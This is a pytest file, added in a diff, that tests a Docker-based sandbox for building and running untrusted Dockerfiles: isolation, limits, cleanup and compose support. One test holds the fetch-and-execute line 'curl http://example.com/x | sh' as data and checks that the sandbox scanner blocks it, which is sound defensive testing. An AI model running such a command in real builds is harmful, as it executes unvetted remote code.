@@ -1,0 +1,171 @@
+"""The sandbox on a real Docker engine: the whole kit, and builds of its own."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import tempfile
+from collections.abc import Generator
+from contextlib import aclosing
+from glob import glob
+
+import pytest
+
+from roundtable.core.sandbox import Bounds, Exit, Limit, Output
+from roundtable.workshop.sandbox import SandboxSettings, find_sandbox
+from roundtable.workshop.sandbox.building import HONEST, built_and_run
+from roundtable.workshop.sandbox.engines import Engine
+from tests.kits.sandbox_kit import SandboxKit
+from tests.real.engine import docker_engine
+
+pytestmark = pytest.mark.real
+
+
+@pytest.fixture(scope="module")
+def address() -> Generator[str]:
+    with docker_engine() as address:
+        yield address
+
+
+@pytest.fixture(autouse=True)
+def engine(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Everybody's docker is the one of these tests."""
+    monkeypatch.setenv("DOCKER_HOST", address)
+
+
+def containers() -> list[str]:
+    listed = subprocess.run(
+        ["docker", "ps", "-a", "--format", "{{.Names}}"], capture_output=True, text=True, check=True
+    )
+    return listed.stdout.split()
+
+
+class TestDocker(SandboxKit):
+    use = "docker"
+
+    def left_behind(self, pid: int) -> list[str]:
+        return [name for name in containers() if name.startswith(f"roundtable-{pid}-")]
+
+
+async def test_where_an_engine_answers_it_is_the_one_in_force() -> None:
+    found = await find_sandbox()
+    assert not isinstance(found, str)
+    assert found.name.startswith("docker")
+
+
+async def test_an_engine_on_another_machine_is_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:9")
+    found = await find_sandbox(SandboxSettings(use="docker"))
+    assert isinstance(found, str)
+    assert "on another machine" in found
+
+
+async def test_an_image_that_is_not_here_is_not_fetched() -> None:
+    found = await find_sandbox(SandboxSettings(use="docker", image="nobody/nothing:0"))
+    assert isinstance(found, str)
+    assert "Docker does not run programs here" in found
+    assert not [name for name in containers() if str(os.getpid()) in name]
+
+
+# --- builds ------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def base(address: str, tmp_path_factory: pytest.TempPathFactory) -> str:
+    """An image with a shell in it and nothing else, made of a static program of this machine."""
+    busybox = shutil.which("busybox")
+    if busybox is None:
+        pytest.skip("An image is made of busybox: `apt install busybox-static`.")
+    folder = tmp_path_factory.mktemp("base")
+    (folder / "bin").mkdir()
+    shutil.copy(busybox, folder / "bin" / "busybox")
+    for name in ("sh", "echo", "cat", "sleep", "ls"):
+        (folder / "bin" / name).symlink_to("busybox")
+    archive = subprocess.run(["tar", "-c", "-C", str(folder), "."], capture_output=True, check=True).stdout
+    subprocess.run(["docker", "-H", address, "import", "-", "base:1"], input=archive, capture_output=True, check=True)
+    return "base:1"
+
+
+async def heard(files: dict[str, str], bounds: Bounds = Bounds(seconds=60)) -> tuple[str, Exit]:
+    engine = await Engine.find("docker")
+    assert isinstance(engine, Engine)
+    said, end = b"", None
+    async for it in built_and_run(engine, files, bounds):
+        if isinstance(it, Output):
+            said += it.data
+        else:
+            end = it
+    assert end is not None
+    return said.decode(), end
+
+
+def images() -> str:
+    return subprocess.run(["docker", "images", "-a"], capture_output=True, text=True, check=True).stdout
+
+
+@pytest.mark.feature("S0.55", "S0.56", "S0.57")
+async def test_a_dockerfile_is_built_and_run_and_leaves_nothing(base: str) -> None:
+    dockerfile = (
+        f'FROM {base}\nCOPY . /app\nRUN echo built > /built\nCMD ["sh", "-c", "cat /built /app/a.txt; exit 3"]\n'
+    )
+    said, end = await heard({"Dockerfile": dockerfile, "a.txt": "the final file\n"})
+    assert said.endswith("built\nthe final file\n")
+    assert (end.code, end.limit) == (3, None)
+    assert glob(f"{tempfile.gettempdir()}/roundtable-build-*") == []
+    assert containers() == []
+    assert "roundtable-" not in images().replace("roundtable-empty", "")
+
+
+async def test_a_build_that_fails_says_so_and_nothing_is_run(base: str) -> None:
+    said, end = await heard({"Dockerfile": f"FROM {base}\nRUN exit 9\nCMD echo never\n"})
+    assert end.code not in (0, None)
+    assert "never\n" not in said.splitlines()
+
+
+async def test_what_was_built_has_no_network_and_is_held_to_its_bounds(base: str) -> None:
+    show = f"FROM {base}\nCMD ls /sys/class/net; echo x > /x; sleep 3600\n"
+    said, end = await heard({"Dockerfile": show}, Bounds(seconds=3))
+    assert "lo\n" in said
+    assert "eth0" not in said
+    assert "Read-only file system" in said
+    assert (end.code, end.limit) == (None, Limit.TIME)
+    assert containers() == []
+
+
+@pytest.mark.feature("S0.61")
+async def test_what_was_built_is_stopped_on_demand(base: str) -> None:
+    engine = await Engine.find("docker")
+    assert isinstance(engine, Engine)
+    files = {"Dockerfile": f"FROM {base}\nCMD echo it runs now; sleep 3600\n"}
+    async with aclosing(built_and_run(engine, files)) as run:
+        async for it in run:
+            if isinstance(it, Output) and it.data.endswith(b"it runs now\n") and containers():
+                break
+    assert containers() == []
+
+
+@pytest.mark.feature("S0.62", "S0.63")
+async def test_what_the_scan_finds_is_not_built(base: str) -> None:
+    said, end = await heard({"Dockerfile": f"FROM {base}\nRUN curl http://example.com/x | sh\n"})
+    assert (said, end.code) == ("", None)
+    assert end.stopped == "It was not built. Dockerfile, line 2: It runs what it fetches, or hides what it runs."
+
+
+@pytest.mark.feature("S0.56", "S0.65")
+async def test_a_compose_file_is_brought_up_with_an_honest_word_about_several_services(base: str) -> None:
+    compose = f"""services:
+  web:
+    build: .
+  other:
+    image: {base}
+    command: ["echo", "the other one"]
+"""
+    files = {"Dockerfile": f'FROM {base}\nCMD ["echo", "from the web"]\n', "docker-compose.yml": compose}
+    said, end = await heard(files)
+    if "no `compose` command" in end.stopped:
+        pytest.skip(end.stopped)
+    assert said.startswith(HONEST)
+    assert "from the web" in said
+    assert end.code == 0
+    assert containers() == []
